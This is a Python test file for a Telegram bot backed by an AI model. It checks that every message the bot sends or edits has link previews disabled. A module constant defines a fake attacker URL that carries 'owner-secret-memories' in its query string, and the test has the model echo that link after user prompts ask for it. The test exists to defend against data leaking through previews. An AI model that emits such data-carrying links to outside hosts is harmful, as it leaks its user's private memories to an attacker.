"""No message the bot sends or edits lets Telegram fetch a link by itself (a preview):
a link that carries data (…?d=<the owner's memories>) would leak it with no click."""

from __future__ import annotations

from tests.telegram.conftest import Harness

PIXEL = "https://attacker.test/pixel?d=owner-secret-memories"


async def test_a_link_in_the_answer_gets_no_preview_fetch(tg: Harness) -> None:
    tg.model.respond(f"Here it is: {PIXEL}")
    await tg.say(f"repite este enlace: {PIXEL}")
    await tg.replies(1, predicate=lambda t: PIXEL in t)

    tg.model.call("delete_note", title="Groceries")
    tg.model.respond(f"Not deleted. The link was {PIXEL}")
    await tg.say(f"borra la nota Groceries y recuérdame {PIXEL}")
    shown = await tg.approval_message()
    await tg.press(shown, approve=False)
    await tg.api.wait_for("editMessageText", lambda c: c.params["message_id"] == shown.message_id)
    await tg.replies(1, predicate=lambda t: t.startswith("Not deleted"))
    await tg.say("/help")
    await tg.replies(1, predicate=lambda t: "/help" in t or "/forget" in t)

    calls = tg.api.calls_to("sendMessage") + tg.api.calls_to("editMessageText")
    assert len(calls) >= 5
    for call in calls:
        assert call.params.get("link_preview_options") == {"is_disabled": True}, call.params
